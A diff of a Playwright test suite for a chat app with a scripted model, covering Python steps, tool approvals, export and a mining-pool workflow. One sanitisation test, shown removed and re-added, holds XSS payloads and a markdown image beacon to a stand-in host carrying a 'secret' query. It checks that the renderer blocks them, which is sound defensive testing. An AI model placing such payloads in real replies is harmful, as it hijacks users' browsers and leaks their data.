@@ -1,71 +1,107 @@
 /** The chat as a person uses it: the model is played by a twin, all else is real. */
 import { readFileSync } from 'node:fs'
 import type { Page } from '@playwright/test'
-import { startTestBackend } from '../dev/test/testBackend.ts'
-import { ChatPage, expect, test } from './chatJourney.ts'
+import { ChatPage, editorChatTest, expect, sharedChatTest, test } from './chatJourney.ts'
+import { openSettings } from './journey.ts'
 
-test('an answer is thought out in Python, and an error on the way is repaired', async ({ chat, ai }) => {
-  ai.play([
-    {
-      text: 'Let me look.',
-      python: 'mining = await tools.get_mining_stats()\nprint("scope:", mining["scope"])\n1 / 0',
-    },
-    {
-      failing: { openai: 'is-overloaded' },
-      text: 'I mend that.',
-      python: 'answer = 6 * 7\n{"answer": answer}',
-    },
-    { text: 'The scope is **pool**, and the answer is 42.\n\n```python\nprint("<b>bold</b>")\n```' },
-  ])
-  await chat.send('What is the scope?')
-  await expect(chat.answer.locator('strong')).toHaveText('pool')
+test.describe(() => {
+  test.use({ editor: 'without checker' })
 
-  await test.step('each step shows its code, what came of it, and how it went', async () => {
-    const [failed, mended] = [chat.step(1), chat.step(2)]
-    await expect(failed).toHaveAttribute('data-step-state', 'failed')
-    await expect(failed.getByRole('region', { name: 'Output' })).toContainText('scope: pool')
-    await expect(failed).toContainText('ZeroDivisionError: division by zero')
-    await expect(failed.getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
-    await expect(mended).toHaveAttribute('data-step-state', 'completed')
-    await expect(mended.getByRole('region', { name: 'Result' })).toContainText('42')
-    await expect(mended).toContainText('answer = 6 * 7')
-    // Coloured as in the editor, once that is there.
-    await expect(mended.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 20_000 })
-  })
-
-  await test.step('the footer says who answered, who failed and what it took', async () => {
-    const footer = chat.answer.locator('footer')
-    await expect(footer).toContainText('OpenAI (gpt-6-luna)')
-    await expect(footer).toContainText('tokens')
-    await expect(footer).toContainText('$')
-    await footer.getByRole('button', { name: '1 attempt failed' }).click()
-    await expect(footer.getByRole('list')).toContainText('OpenAI (gpt-6-luna)')
-  })
-
-  await test.step('what has ended is read out, in one piece', async () => {
-    await expect(chat.announcer).toContainText('The assistant answered: Let me look.')
-    await expect(chat.messages).toHaveAttribute('aria-live', 'off')
-  })
-
-  await test.step('it has an address, stands in the list, and is there again after a reload', async () => {
-    await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
-    await expect(chat.conversations).toContainText('What is the scope?')
-    await chat.page.goto('/chat')
-    await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
+  test('an answer is thought out in Python, and an error on the way is repaired', async ({ chat, ai }) => {
+    ai.play([
+      {
+        text: 'Let me look.',
+        python: 'mining = await tools.get_mining_stats()\nprint("scope:", mining["scope"])\n1 / 0',
+      },
+      {
+        failing: { openai: 'is-overloaded' },
+        text: 'I mend that.',
+        python: 'answer = 6 * 7\n{"answer": answer}',
+      },
+      { text: 'The scope is **pool**, and the answer is 42.\n\n```python\nprint("<b>bold</b>")\n```' },
+    ])
+    await chat.send('What is the scope?')
     await expect(chat.answer.locator('strong')).toHaveText('pool')
-    // Out of the log.
-    await expect(chat.step(1).getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
-    await expect(chat.step(2).getByRole('region', { name: 'Result' })).toContainText('42')
+
+    await test.step('each step shows its code, what came of it, and how it went', async () => {
+      const [failed, mended] = [chat.step(1), chat.step(2)]
+      await expect(failed).toHaveAttribute('data-step-state', 'failed')
+      await expect(failed.getByRole('region', { name: 'Output' })).toContainText('scope: pool')
+      await expect(failed).toContainText('ZeroDivisionError: division by zero')
+      await expect(failed.getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
+      await expect(mended).toHaveAttribute('data-step-state', 'completed')
+      await expect(mended.getByRole('region', { name: 'Result' })).toContainText('42')
+      await expect(mended).toContainText('answer = 6 * 7')
+      // Coloured as in the editor, once that is there.
+      await expect(mended.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 30_000 })
+    })
+
+    await test.step('the footer says who answered, who failed and what it took', async () => {
+      const footer = chat.answer.locator('footer')
+      await expect(footer).toContainText('OpenAI (gpt-6-luna)')
+      await expect(footer).toContainText('tokens')
+      await expect(footer).toContainText('$')
+      await footer.getByRole('button', { name: '1 attempt failed' }).click()
+      await expect(footer.getByRole('list')).toContainText('OpenAI (gpt-6-luna)')
+    })
+
+    await test.step('what has ended is read out, in one piece', async () => {
+      await expect(chat.announcer).toContainText('The assistant answered: Let me look.')
+      await expect(chat.messages).toHaveAttribute('aria-live', 'off')
+    })
+
+    await test.step('it has an address, stands in the list, and is there again after a reload', async () => {
+      await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
+      await expect(chat.conversations).toContainText('What is the scope?')
+      await chat.page.goto('/chat')
+      await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
+      await expect(chat.answer.locator('strong')).toHaveText('pool')
+      // Out of the log.
+      await expect(chat.step(1).getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
+      await expect(chat.step(2).getByRole('region', { name: 'Result' })).toContainText('42')
+    })
+
+    await test.step('its code is opened in the editor', async () => {
+      await chat.step(2).getByRole('button', { name: 'Open in editor' }).click()
+      await expect(chat.page).toHaveURL(/\/scripts$/)
+      await expect(chat.page.getByRole('tab', { name: /What is the scope/ })).toBeVisible()
+    })
   })
 
-  await test.step('its code is opened in the editor', async () => {
-    await chat.step(2).getByRole('button', { name: 'Open in editor' }).click()
-    await expect(chat.page).toHaveURL(/\/scripts$/)
-    await expect(chat.page.getByRole('tab', { name: /What is the scope/ })).toBeVisible()
+  test('a step is edited and run in place, and the run that the assistant saw stays', async ({
+    chat,
+    ai,
+  }) => {
+    ai.play([{ python: 'n = 3\nprint("squares", [i * i for i in range(n)])' }, { text: 'These.' }])
+    await chat.send('Squares, please')
+    await chat.hasAnswered()
+    const cell = chat.step(1)
+    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')
+
+    await cell.getByRole('button', { name: 'Edit', exact: true }).click()
+    const field = cell.getByRole('textbox', { name: 'Code of Python step 1' })
+    await field.focus()
+    await chat.page.keyboard.press('ControlOrMeta+A')
+    await chat.page.keyboard.insertText('n = 5\nprint("more squares", [i * i for i in range(n)])')
+    await chat.page.keyboard.press('Escape')
+    await expect(field).toBeHidden()
+    await cell.getByRole('button', { name: 'Edit', exact: true }).click()
+    await expect(cell).toContainText('n = 5')
+    await field.focus()
+    await chat.page.keyboard.press('ControlOrMeta+Enter')
+    await expect(cell).toContainText('Edited; the assistant saw the first run.')
+    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
+    await cell.getByRole('button', { name: 'Show the first run' }).click()
+    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')
+
+    await chat.page.reload()
+    await expect(cell).toContainText('Edited; the assistant saw the first run.')
+    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
+    expect(ai.requests).toHaveLength(2)
   })
 })
 
-test('calls that write ask first, each for itself, while others go on', async ({ chat, ai }) => {
+sharedChatTest('calls that write ask first, each for itself, while others go on', async ({ chat, ai }) => {
   ai.play([
     {
       python: `
@@ -105,7 +141,7 @@ print(done[0], "and", done[1], "and", done[2]["scope"])`,
   await expect(chat.page.getByRole('dialog')).toContainText('Always allowed in this conversation: remember')
   await chat.page.getByRole('checkbox', { name: 'Ask before tools that write' }).uncheck()
   await chat.page.keyboard.press('Escape')
-  await chat.page.goto('/settings')
+  await openSettings(chat.page)
   await expect(chat.page.getByRole('checkbox', { name: 'Ask before tools that write' })).not.toBeChecked()
 })
 
@@ -141,36 +177,7 @@ test('a message written while offline is sent once, when the connection is back'
   await expect(chat.messages.getByRole('article', { name: 'You' })).toHaveCount(1)
 })
 
-test('a step is edited and run in place, and the run that the assistant saw stays', async ({ chat, ai }) => {
-  ai.play([{ python: 'n = 3\nprint("squares", [i * i for i in range(n)])' }, { text: 'These.' }])
-  await chat.send('Squares, please')
-  await chat.hasAnswered()
-  const cell = chat.step(1)
-  await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')
-
-  await cell.getByRole('button', { name: 'Edit', exact: true }).click()
-  const field = cell.getByRole('textbox', { name: 'Code of Python step 1' })
-  await field.focus()
-  await chat.page.keyboard.press('ControlOrMeta+A')
-  await chat.page.keyboard.insertText('n = 5\nprint("more squares", [i * i for i in range(n)])')
-  await chat.page.keyboard.press('Escape')
-  await expect(field).toBeHidden()
-  await cell.getByRole('button', { name: 'Edit', exact: true }).click()
-  await expect(cell).toContainText('n = 5')
-  await field.focus()
-  await chat.page.keyboard.press('ControlOrMeta+Enter')
-  await expect(cell).toContainText('Edited; the assistant saw the first run.')
-  await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
-  await cell.getByRole('button', { name: 'Show the first run' }).click()
-  await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')
-
-  await chat.page.reload()
-  await expect(cell).toContainText('Edited; the assistant saw the first run.')
-  await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
-  expect(ai.requests).toHaveLength(2)
-})
-
-test('Stop ends the model while it writes, and Python while it loops', async ({ chat, ai }) => {
+sharedChatTest('Stop ends the model while it writes, and Python while it loops', async ({ chat, ai }) => {
   ai.play([{ text: 'On and on', hangs: true }])
   await chat.send('Write')
   await expect(chat.answer).toContainText('On and on')
@@ -188,43 +195,46 @@ test('Stop ends the model while it writes, and Python while it loops', async ({ 
   expect(ai.requests).toHaveLength(1)
 })
 
-test('what a model says loads nothing, runs nothing and leads nowhere but out', async ({ chat, ai }) => {
-  const asked: string[] = []
-  chat.page.on('request', (request) => {
-    if (request.url().includes('evil.example')) asked.push(request.url())
-  })
-  chat.page.on('dialog', (dialog) => {
-    asked.push(dialog.message())
-    void dialog.dismiss()
-  })
-  ai.play([
-    {
-      text: [
-        '<script>alert(1)</script> <img src="http://evil.example/raw.png" onerror="alert(2)">',
-        '![a **secret**](http://evil.example/beacon.png?q=secret)',
-        '[press](javascript:alert(3)) [data](data:text/html,hi) [out](https://evil.example/page)',
-        '[![both](http://evil.example/inner.png)](https://evil.example/outer)',
-        '```python\n"</span><img src=x onerror=alert(4)>"\n```',
-        '| a |\n|---|\n| ![x](http://evil.example/cell.png) |',
-        'The end.',
-      ].join('\n\n'),
-    },
-  ])
-  await chat.send('Be evil')
-  await expect(chat.answer).toContainText('The end.')
-  await expect(chat.answer.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 20_000 })
-  await expect(chat.answer.locator('img, script, iframe')).toHaveCount(0)
-  const links = await chat.answer
-    .locator('a')
-    .evaluateAll((all) =>
-      all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')]),
-    )
-  for (const [href, rel, target] of links) {
-    expect(href).toMatch(/^https?:/)
-    expect([rel, target]).toEqual(['noopener noreferrer', '_blank'])
-  }
-  expect(asked).toEqual([])
-})
+editorChatTest(
+  'what a model says loads nothing, runs nothing and leads nowhere but out',
+  async ({ chat, ai }) => {
+    const asked: string[] = []
+    chat.page.on('request', (request) => {
+      if (request.url().includes('evil.example')) asked.push(request.url())
+    })
+    chat.page.on('dialog', (dialog) => {
+      asked.push(dialog.message())
+      void dialog.dismiss()
+    })
+    ai.play([
+      {
+        text: [
+          '<script>alert(1)</script> <img src="http://evil.example/raw.png" onerror="alert(2)">',
+          '![a **secret**](http://evil.example/beacon.png?q=secret)',
+          '[press](javascript:alert(3)) [data](data:text/html,hi) [out](https://evil.example/page)',
+          '[![both](http://evil.example/inner.png)](https://evil.example/outer)',
+          '```python\n"</span><img src=x onerror=alert(4)>"\n```',
+          '| a |\n|---|\n| ![x](http://evil.example/cell.png) |',
+          'The end.',
+        ].join('\n\n'),
+      },
+    ])
+    await chat.send('Be evil')
+    await expect(chat.answer).toContainText('The end.')
+    await expect(chat.answer.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 30_000 })
+    await expect(chat.answer.locator('img, script, iframe')).toHaveCount(0)
+    const links = await chat.answer
+      .locator('a')
+      .evaluateAll((all) =>
+        all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')]),
+      )
+    for (const [href, rel, target] of links) {
+      expect(href).toMatch(/^https?:/)
+      expect([rel, target]).toEqual(['noopener noreferrer', '_blank'])
+    }
+    expect(asked).toEqual([])
+  },
+)
 
 test('two thousand messages scroll, and few of them are in the page', async ({ chat, ai, backend }) => {
   ai.play([{ text: 'Begun.' }])
@@ -295,39 +305,41 @@ test('two thousand messages scroll, and few of them are in the page', async ({ c
   await expect(chat.answer).toContainText('Message 1999:')
 })
 
-test('a conversation is renamed, searched, deleted and brought back, by keyboard on a narrow screen', async ({
-  chat,
-  ai,
-}) => {
-  const { page } = chat
-  await page.setViewportSize({ width: 390, height: 844 })
-  ai.play([{ text: `A ${'very'.repeat(60)} long word\n\n\`\`\`python\nx = "${'wide '.repeat(60)}"\n\`\`\`` }])
-  await chat.send('Something about walruses')
-  await chat.hasAnswered()
-  const overflow = () =>
-    page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
-  expect(await overflow()).toBeLessThanOrEqual(0)
-  expect(await chat.messages.evaluate((log) => log.scrollWidth - log.clientWidth)).toBeLessThanOrEqual(0)
+sharedChatTest(
+  'a conversation is renamed, searched, deleted and brought back, by keyboard on a narrow screen',
+  async ({ chat, ai }) => {
+    const { page } = chat
+    await page.setViewportSize({ width: 390, height: 844 })
+    ai.play([
+      { text: `A ${'very'.repeat(60)} long word\n\n\`\`\`python\nx = "${'wide '.repeat(60)}"\n\`\`\`` },
+    ])
+    await chat.send('Something about walruses')
+    await chat.hasAnswered()
+    const overflow = () =>
+      page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
+    expect(await overflow()).toBeLessThanOrEqual(0)
+    expect(await chat.messages.evaluate((log) => log.scrollWidth - log.clientWidth)).toBeLessThanOrEqual(0)
 
-  await chat.button('Conversations').focus()
-  await page.keyboard.press('Enter')
-  await page.getByRole('searchbox', { name: 'Search conversations' }).fill('walruses')
-  const item = chat.conversations.getByRole('link', { name: 'Something about walruses' })
-  await expect(item).toHaveCount(1)
-  await page.getByRole('searchbox', { name: 'Search conversations' }).fill('')
-  await chat.button('Menu of Something about walruses').press('Enter')
-  await page.getByRole('menuitem', { name: 'Rename' }).press('Enter')
-  await expect(page.getByRole('textbox', { name: /^New title of/ })).toBeFocused()
-  await page.keyboard.insertText('Walrus facts')
-  await page.keyboard.press('Enter')
-  await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
-  await chat.button('Menu of Walrus facts').press('Enter')
-  await page.getByRole('menuitem', { name: 'Delete' }).press('Enter')
-  await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toHaveCount(0)
-  await page.getByRole('button', { name: 'Undo' }).click()
-  await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
-  await expect(chat.messages).toContainText('Something about walruses')
-})
+    await chat.button('Conversations').focus()
+    await page.keyboard.press('Enter')
+    await page.getByRole('searchbox', { name: 'Search conversations' }).fill('walruses')
+    const item = chat.conversations.getByRole('link', { name: 'Something about walruses' })
+    await expect(item).toHaveCount(1)
+    await page.getByRole('searchbox', { name: 'Search conversations' }).fill('')
+    await chat.button('Menu of Something about walruses').press('Enter')
+    await page.getByRole('menuitem', { name: 'Rename' }).press('Enter')
+    await expect(page.getByRole('textbox', { name: /^New title of/ })).toBeFocused()
+    await page.keyboard.insertText('Walrus facts')
+    await page.keyboard.press('Enter')
+    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
+    await chat.button('Menu of Walrus facts').press('Enter')
+    await page.getByRole('menuitem', { name: 'Delete' }).press('Enter')
+    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toHaveCount(0)
+    await page.getByRole('button', { name: 'Undo' }).click()
+    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
+    await expect(chat.messages).toContainText('Something about walruses')
+  },
+)
 
 test('what is typed outlives a reload, each conversation its own', async ({ chat, ai }) => {
   ai.play([{ text: 'Yes.' }])
@@ -346,65 +358,59 @@ test('what is typed outlives a reload, each conversation its own', async ({ chat
   await expect(chat.message).toHaveValue('half a thought\n')
 })
 
-test('a conversation is exported for people and for machines, and imported as another one', async ({
-  chat,
-  ai,
-}) => {
-  const { page } = chat
-  ai.play([{ python: 'print("exported", 1)' }, { text: 'Kept.' }])
-  await chat.send('Keep: this/that')
-  await chat.hasAnswered()
-  const save = async (kind: string) => {
-    await chat.button('Menu of Keep: this/that').first().click()
-    const saving = page.waitForEvent('download')
-    await page.getByRole('menuitem', { name: `Export as ${kind}` }).click()
-    return saving
-  }
-  const markdown = await save('Markdown')
-  expect(markdown.suggestedFilename()).toBe('Keep-this-that.md')
-  expect(readFileSync(await markdown.path(), 'utf8')).toContain('print("exported", 1)')
-  const json = await (await save('JSON')).path()
-  const before = page.url()
-  await page.getByLabel('File of a conversation').setInputFiles(json)
-  await expect(page).not.toHaveURL(before)
-  await expect(chat.answer).toContainText('Kept.')
-  await expect(chat.conversations.getByRole('link', { name: 'Keep: this/that' })).toHaveCount(2)
-  await page.getByLabel('File of a conversation').setInputFiles({
-    name: 'other.json',
-    mimeType: 'application/json',
-    buffer: Buffer.from('{"format": "of another app"}'),
-  })
-  await expect(page.getByText('This file holds no conversation.')).toBeVisible()
-})
+sharedChatTest(
+  'a conversation is exported for people and for machines, and imported as another one',
+  async ({ chat, ai }) => {
+    const { page } = chat
+    ai.play([{ python: 'print("exported", 1)' }, { text: 'Kept.' }])
+    await chat.send('Keep: this/that')
+    await chat.hasAnswered()
+    const save = async (kind: string) => {
+      await chat.button('Menu of Keep: this/that').first().click()
+      const saving = page.waitForEvent('download')
+      await page.getByRole('menuitem', { name: `Export as ${kind}` }).click()
+      return saving
+    }
+    const markdown = await save('Markdown')
+    expect(markdown.suggestedFilename()).toBe('Keep-this-that.md')
+    expect(readFileSync(await markdown.path(), 'utf8')).toContain('print("exported", 1)')
+    const json = await (await save('JSON')).path()
+    const before = page.url()
+    await page.getByLabel('File of a conversation').setInputFiles(json)
+    await expect(page).not.toHaveURL(before)
+    await expect(chat.answer).toContainText('Kept.')
+    await expect(chat.conversations.getByRole('link', { name: 'Keep: this/that' })).toHaveCount(2)
+    await page.getByLabel('File of a conversation').setInputFiles({
+      name: 'other.json',
+      mimeType: 'application/json',
+      buffer: Buffer.from('{"format": "of another app"}'),
+    })
+    await expect(page.getByText('This file holds no conversation.')).toBeVisible()
+  },
+)
 
 test('without any model, workflows are matched and run, and Python in a fence runs', async ({
   page,
   twins,
+  playBackend,
 }) => {
-  const backend = await startTestBackend({
-    serveDist: true,
-    functionsEnvironment: { SUPPORTXMR_API_URL: twins.miningUrl },
-  })
-  try {
-    await page.goto(`${backend.url}/chat/new`)
-    const chat = new ChatPage(page)
-    await expect(page.getByText('No model is configured.')).toBeVisible()
-    await chat.send('statistics of the mining pool')
-    await expect(chat.answer).toContainText('this is not an answer')
-    const matches = chat.answer.getByRole('list', { name: 'Workflows that match' })
-    await matches.getByRole('button', { name: /^Run / }).first().click()
-    await expect(chat.step(1)).toHaveAttribute('data-step-state', 'completed')
+  const backend = await playBackend({ SUPPORTXMR_API_URL: twins.miningUrl })
+  await page.goto(`${backend.url}/chat/new`)
+  const chat = new ChatPage(page)
+  await expect(page.getByText('No model is configured.')).toBeVisible()
+  await chat.send('statistics of the mining pool')
+  await expect(chat.answer).toContainText('this is not an answer')
+  const matches = chat.answer.getByRole('list', { name: 'Workflows that match' })
+  await matches.getByRole('button', { name: /^Run / }).first().click()
+  await expect(chat.step(1)).toHaveAttribute('data-step-state', 'completed')
 
-    await expect(chat.conversations).toContainText('statistics of the mining pool')
+  await expect(chat.conversations).toContainText('statistics of the mining pool')
 
-    await chat.send('zzyzx qwrtp')
-    await expect(chat.answer).toContainText('no workflow in the library matches your message')
+  await chat.send('zzyzx qwrtp')
+  await expect(chat.answer).toContainText('no workflow in the library matches your message')
 
-    await chat.send('```python\nprint("by hand", 6 * 7)\n```')
-    await expect(chat.step(1).getByRole('region', { name: 'Output' })).toContainText('by hand 42')
-  } finally {
-    await backend.stop()
-  }
+  await chat.send('```python\nprint("by hand", 6 * 7)\n```')
+  await expect(chat.step(1).getByRole('region', { name: 'Output' })).toContainText('by hand 42')
 })
 
 /** Reads the undelivered messages on disk, and the backend's copy of the latest. */
